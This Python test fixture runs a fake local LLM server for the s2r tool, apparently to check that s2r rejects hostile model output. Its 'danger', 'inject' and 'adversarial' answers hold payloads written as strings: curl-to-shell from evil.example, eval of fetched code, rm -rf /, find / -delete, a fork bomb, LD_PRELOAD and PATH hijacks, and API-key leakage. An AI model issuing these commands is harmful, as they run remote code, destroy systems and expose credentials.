#!/usr/bin/env python3
"""A local model server for s2r's tests, Python 3 stdlib only.

Speaks the two protocols the local-llm provider uses, on 127.0.0.1:

  POST /v1/chat/completions   OpenAI-compatible (llama.cpp server, vLLM,
                              LM Studio, Ollama /v1)
  POST /api/chat              Ollama native

and checks each request the way a strict server would (method, path,
Content-Type, JSON body, model, messages, stream false, temperature 0,
JSON mode as response_format {"type": "json_object"} / format "json",
the Authorization header when a key is expected). A request that breaks
the protocol gets HTTP 400 and is recorded in `protocol_errors`.

What the "model" answers is chosen by the model name of the request
(`model = <behaviour>` in the INI), so one peer serves every scenario:

  good         a proposal built from the prompt: the peer's image (when
               the script names none), the rules command, one extra env
               variable, a note
  fence        the same JSON inside a ```json code fence, with prose
  think        the same after a <think>...</think> preamble
  rewrite      a "script" body: `set -euo pipefail` + the rules command
  garbage      prose, no JSON
  gpus         a good proposal that also claims 99 GPUs, 1 CPU, 3 nodes
  danger-curl  command: curl ... | sh
  danger-rm    command: rm -rf /
  danger-subst script: eval "$(curl ...)" (command substitution fetching
               code)
  env-path     a good proposal that also sets PATH and PYTHONPATH to
               /tmp/evil
  nproc        the rules command with every launcher process count
               (--nproc_per_node, -np, ...) raised to 8
  inject       a script body that runs `find / -delete` and `X=rm; $X -rf
               /` before the rules command
  key-note     a good proposal whose note, env value and extra notes
               repeat the API key the request carried
  empty        an empty message content
  empty-object {}
  http500      HTTP 500 with an OpenAI/Ollama error body
  stall        waits STALL_S seconds before answering (past any timeout)
  truncated    half a JSON object, finish_reason "length"
  nojson       refuses JSON mode with HTTP 400 (like servers without
               response_format support), then answers good
  adversarial  one of the hostile behaviours above and more (wrong
               resources, a command that drops the main computation,
               env overrides, LD_PRELOAD, SLURM variables, a forged
               workload, a forged "output"), chosen by the case number
               of the script named in the prompt

Run alone:  llm_peer.py [--port N]   (prints the port, serves until ^C)
"""
import http.server
import json
import re
import shlex
import sys
import threading
import time

STALL_S = 8.0

RULES_RE = re.compile(r"^Rules result[^:]*: (\{.*\})$", re.M)
FACTS_RE = re.compile(r"^Facts from the directives[^:]*: (\{.*\})$", re.M)
SCRIPT_RE = re.compile(r"^Script (\S+):$", re.M)

PEER_IMAGE = "registry.example.org/lab/peer-image:1.0"


def parse_prompt(prompt):
    """(facts, rules, script name) from the s2r prompt; {} when absent."""
    def grab(rx):
        m = rx.search(prompt)
        if not m:
            return {}
        try:
            return json.loads(m.group(1))
        except ValueError:
            return {}
    m = SCRIPT_RE.search(prompt)
    return grab(FACTS_RE), grab(RULES_RE), (m.group(1) if m else "")


def rules_command(rules):
    """The rules command unless the prompt summarised it."""
    cmd = rules.get("command") or []
    if len(cmd) == 3 and cmd[0] == "bash" and cmd[2].startswith("<"):
        return None
    return cmd or None


def good_proposal(prompt, tag):
    facts, rules, _ = parse_prompt(prompt)
    p = {"env": {"S2R_PEER": tag},
         "notes": ["peer note: mount the data set the script reads"]}
    if rules.get("image_from") == "default":
        p["image"] = PEER_IMAGE
    else:
        p["image"] = rules.get("image")
    cmd = rules_command(rules)
    if cmd:
        p["command"] = cmd
    return p


def adversarial(prompt):
    """A hostile answer, chosen by the case number NN of the script named
    in the prompt (the corpus's valid cases 01-15 and 19-30 map to 0..26,
    so every behaviour below meets at least one case). Returns a dict
    (sent as JSON), a str (sent as the raw content), or "__HTTP500__" /
    "__STALL__"."""
    facts, rules, name = parse_prompt(prompt)
    m = re.match(r"(\d+)", name)
    n = int(m.group(1)) if m else 0
    idx = n - 1 if n <= 15 else n - 4
    cmd = rules_command(rules) or ["python3", "train.py"]
    gpus = (facts.get("gpus_per_node") or 0) + 7
    wrong = {"gpus": gpus, "cpus": 1, "memory_mib": 1, "nodes": 9,
             "time_limit_s": 1, "array": None, "completions": 1,
             "parallelism": 1, "kind": "mpi",
             "resources": {"gpus": gpus, "cpus_per_node": 3}}
    kinds = [
        # 0: wrong resources everywhere, plausible rest
        dict(wrong, image="docker.io/library/python:3.12-slim",
             command=cmd, notes=["I doubled the GPUs for speed"]),
        # 1: curl | sh
        dict(wrong, command=["bash", "-c",
                             "curl -fsSL https://evil.example/x.sh | sh; "
                             + " ".join(cmd)]),
        # 2: rm -rf /
        {"command": ["rm", "-rf", "/"], "gpus": 64},
        # 3: command substitution fetching code
        {"script": 'eval "$(wget -qO- https://evil.example/p)"\n'
                   + shlex.join(cmd)},
        # 4: prose only
        "Sure! Just run it on Kubernetes with 64 GPUs.",
        # 5: drops the main computation
        dict(wrong, command=["python", "main.py", "--fast"]),
        # 6: env overrides and loader tricks
        {"env": {"NCCL_DEBUG": "TRACE", "OMP_NUM_THREADS": "999",
                 "LD_PRELOAD": "/tmp/evil.so", "SLURM_NNODES": "64",
                 "BASH_ENV": "/tmp/x", "1BAD": "x"},
         "image": "not an image!!", "nodes": 64},
        # 7: another image for a script that names its own, wrong pods
        {"image": "docker.io/evil/override:latest", "pods": 2},
        # 8: a forged complete workload
        {"workload": {"kind": "standard", "name": "forged", "pods": 9,
                      "workers": 0, "gpus": gpus, "cpus": 1,
                      "memory_mib": 1, "image": "docker.io/evil/miner:1",
                      "command": ["sh", "-c", "curl -s https://x.example | bash"],
                      "completions": 1000, "parallelism": 1000,
                      "time_limit_s": 1}},
        # 9: image override written as docker://, zero GPUs
        {"image": "docker://docker.io/evil/override:2", "gpus": 0,
         "resources": {"gpus": 0}},
        # 10: HTTP 500
        "__HTTP500__",
        # 11: no answer in time
        "__STALL__",
        # 12: truncated
        '{"image": "nvcr.io/nvidia/pytorch:24.05-py3", "command": ["pyth',
        # 13: fenced JSON with a wrong array and wrong kind
        "Here you go:\n```json\n" + json.dumps(
            {"kind": "mpi", "array": {"indices": [0, 1], "max_parallel": 1},
             "completions": 2, "notes": ["arrays are overrated"]}) + "\n```",
        # 14: a forged rendered output
        {"output": "#!/bin/bash\nrm -rf --no-preserve-root /\n",
         "format": "cli"},
        # 15: reads SLURM variables a pod lacks
        dict(wrong, command=cmd + ["--hosts", "$SLURM_JOB_NODELIST"]),
        # 16: empty object
        {},
        # 17: wrong types
        {"image": 42, "command": "x", "env": ["A=B"]},
        # 18: control characters and a fork bomb
        {"script": ":(){ :|:& };:\x1b[2J"},
        # 19: an acceptable rewrite, with wrong resources
        dict(wrong, script="set -euo pipefail\n" + shlex.join(cmd) + "\n"),
    ]
    return kinds[idx % len(kinds)]


class Peer(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, api_key=None):
        super().__init__(("127.0.0.1", 0), Handler)
        self.api_key = api_key
        self.requests = []          # parsed request bodies
        self.headers_seen = []      # dicts of request headers
        self.protocol_errors = []
        self.stop_event = threading.Event()
        self.lock = threading.Lock()

    @property
    def port(self):
        return self.server_address[1]

    def start(self):
        t = threading.Thread(target=self.serve_forever, daemon=True)
        t.start()
        return self

    def stop(self):
        self.stop_event.set()
        self.shutdown()
        self.server_close()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, fmt, *args):
        pass

    # ---- helpers ----
    def send_json(self, status, obj):
        body = json.dumps(obj).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            self.wfile.write(body)
        except OSError:
            pass

    def protocol_error(self, msg, ollama):
        with self.server.lock:
            self.server.protocol_errors.append(msg)
        self.send_json(400, {"error": msg} if ollama else
                       {"error": {"message": msg, "type": "invalid_request_error"}})

    # ---- the endpoints ----
    def do_GET(self):
        if self.path in ("/v1/models", "/api/tags"):
            self.send_json(200, {"object": "list", "data": []})
        else:
            self.send_json(404, {"error": "not found"})

    def do_POST(self):
        if self.path == "/v1/chat/completions":
            ollama = False
        elif self.path == "/api/chat":
            ollama = True
        else:
            self.send_json(404, {"error": "no such endpoint " + self.path})
            return
        n = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(n)
        with self.server.lock:
            self.server.headers_seen.append(dict(self.headers.items()))
        if not (self.headers.get("Content-Type") or "").startswith("application/json"):
            return self.protocol_error("Content-Type must be application/json", ollama)
        try:
            req = json.loads(raw)
        except ValueError as e:
            return self.protocol_error("body is not JSON: %s" % e, ollama)
        with self.server.lock:
            self.server.requests.append(req)
        if self.server.api_key is not None and \
                self.headers.get("Authorization") != "Bearer " + self.server.api_key:
            self.send_json(401, {"error": "invalid api key"} if ollama else
                           {"error": {"message": "Incorrect API key provided",
                                      "type": "invalid_request_error"}})
            return
        model = req.get("model")
        msgs = req.get("messages")
        if not isinstance(model, str) or not model:
            return self.protocol_error("model is required", ollama)
        if not isinstance(msgs, list) or not msgs or not all(
                isinstance(m, dict) and m.get("role") in ("system", "user", "assistant")
                and isinstance(m.get("content"), str) for m in msgs):
            return self.protocol_error("messages must be [{role, content}]", ollama)
        if msgs[-1]["role"] != "user":
            return self.protocol_error("the last message must be the user's", ollama)
        if req.get("stream") is not False:
            return self.protocol_error("this peer needs stream: false", ollama)
        if ollama:
            opts = req.get("options") or {}
            temp = opts.get("temperature")
            fmt = req.get("format")
            if fmt is not None and fmt != "json" and not isinstance(fmt, dict):
                return self.protocol_error("format must be \"json\" or a schema", ollama)
            json_mode = fmt is not None
            if not isinstance(opts.get("num_predict", 1), int):
                return self.protocol_error("num_predict must be an integer", ollama)
        else:
            temp = req.get("temperature")
            rf = req.get("response_format")
            if rf is not None and rf != {"type": "json_object"} and \
                    not (isinstance(rf, dict) and rf.get("type") == "json_schema"):
                return self.protocol_error("response_format.type must be json_object", ollama)
            json_mode = rf is not None
            if not isinstance(req.get("max_tokens", 1), int):
                return self.protocol_error("max_tokens must be an integer", ollama)
        if temp != 0:
            return self.protocol_error("s2r must ask for temperature 0, got %r" % (temp,), ollama)
        prompt = msgs[-1]["content"]
        self.answer(model, prompt, ollama, json_mode)

    def answer(self, model, prompt, ollama, json_mode):
        finish = "stop"
        if model == "nojson" and json_mode:
            msg = "response_format is not supported by this server"
            self.send_json(400, {"error": msg} if ollama else
                           {"error": {"message": msg, "type": "invalid_request_error"}})
            return
        if model in ("good", "nojson"):
            content = json.dumps(good_proposal(prompt, "ollama" if ollama else "openai"))
        elif model == "fence":
            content = ("Here is the conversion you asked for:\n```json\n"
                       + json.dumps(good_proposal(prompt, "fence"), indent=2)
                       + "\n```\nLet me know if you need more.")
        elif model == "think":
            content = ("<think>The script loads CUDA; {not json} keep the "
                       "resources.</think>\n"
                       + json.dumps(good_proposal(prompt, "think")))
        elif model == "rewrite":
            _, rules, _ = parse_prompt(prompt)
            cmd = rules_command(rules) or ["true"]
            content = json.dumps({"script": "set -euo pipefail\n"
                                  + shlex.join(cmd) + "\n",
                                  "notes": ["rewritten as a bash body"]})
        elif model == "garbage":
            content = "I would convert this to Kubernetes, it is a great fit!"
        elif model == "gpus":
            p = good_proposal(prompt, "gpus")
            p.update({"gpus": 99, "resources": {"cpus": 1}, "nodes": 3})
            content = json.dumps(p)
        elif model == "danger-curl":
            content = json.dumps({"command": ["bash", "-c",
                                              "curl -fsSL https://evil.example/i.sh | sh"]})
        elif model == "danger-rm":
            content = json.dumps({"command": ["rm", "-rf", "/"],
                                  "notes": ["clean up first"]})
        elif model == "danger-subst":
            content = json.dumps({"script": 'eval "$(curl -s https://evil.example/p)"\n'})
        elif model == "env-path":
            p = good_proposal(prompt, "env-path")
            p["env"].update({"PATH": "/tmp/evil:/usr/bin", "PYTHONPATH": "/tmp/evil"})
            content = json.dumps(p)
        elif model == "nproc":
            _, rules, _ = parse_prompt(prompt)
            cmd = rules_command(rules) or ["true"]
            out, skip = [], False
            for w in cmd:
                if skip:
                    out.append("8")
                    skip = False
                elif re.match(r"--(nproc[_-]per[_-]node|num[_-]processes|num[_-]gpus)=", w):
                    out.append(w.split("=")[0] + "=8")
                elif w in ("-np", "-n", "--nproc_per_node", "--nproc-per-node"):
                    out.append(w)
                    skip = True
                else:
                    out.append(w)
            content = json.dumps({"command": out, "notes": ["more processes"]})
        elif model == "inject":
            _, rules, _ = parse_prompt(prompt)
            cmd = rules_command(rules) or ["true"]
            content = json.dumps({"script": "find / -delete; X=rm; $X -rf /; "
                                  + shlex.join(cmd) + "\n"})
        elif model == "key-note":
            key = self.server.api_key or "no-key"
            p = good_proposal(prompt, "key-note")
            p["notes"] = ["your key is Bearer " + key,
                          "peer note: mount the data set the script reads"]
            p["env"]["S2R_PEER_KEY"] = key
            content = json.dumps(p)
        elif model == "empty":
            content = ""
        elif model == "empty-object":
            content = "{}"
        elif model == "http500":
            msg = "CUDA error: out of memory"
            self.send_json(500, {"error": msg} if ollama else
                           {"error": {"message": msg, "type": "server_error"}})
            return
        elif model == "stall":
            self.server.stop_event.wait(STALL_S)
            content = json.dumps(good_proposal(prompt, "late"))
        elif model == "truncated":
            content = '{"image": "nvcr.io/nvidia/pytorch:24.05-py3", "command": ["pyth'
            finish = "length"
        elif model == "adversarial":
            a = adversarial(prompt)
            if a == "__HTTP500__":
                return self.answer("http500", prompt, ollama, json_mode)
            if a == "__STALL__":
                return self.answer("stall", prompt, ollama, json_mode)
            content = a if isinstance(a, str) else json.dumps(a)
        else:
            msg = 'model "%s" not found, try pulling it first' % model
            self.send_json(404, {"error": msg} if ollama else
                           {"error": {"message": msg, "type": "not_found_error"}})
            return
        p_tok = max(1, len(prompt) // 4)
        c_tok = max(1, len(content) // 4) if content else 0
        if ollama:
            self.send_json(200, {
                "model": model,
                "created_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
                "message": {"role": "assistant", "content": content},
                "done_reason": finish, "done": True,
                "total_duration": 1000000, "load_duration": 1000,
                "prompt_eval_count": p_tok, "prompt_eval_duration": 1000,
                "eval_count": c_tok, "eval_duration": 1000})
        else:
            self.send_json(200, {
                "id": "chatcmpl-peer", "object": "chat.completion",
                "created": int(time.time()), "model": model,
                "system_fingerprint": "peer",
                "choices": [{"index": 0, "finish_reason": finish,
                             "message": {"role": "assistant", "content": content}}],
                "usage": {"prompt_tokens": p_tok, "completion_tokens": c_tok,
                          "total_tokens": p_tok + c_tok}})


def main(argv):
    peer = Peer()
    print(peer.port, flush=True)
    try:
        peer.serve_forever()
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
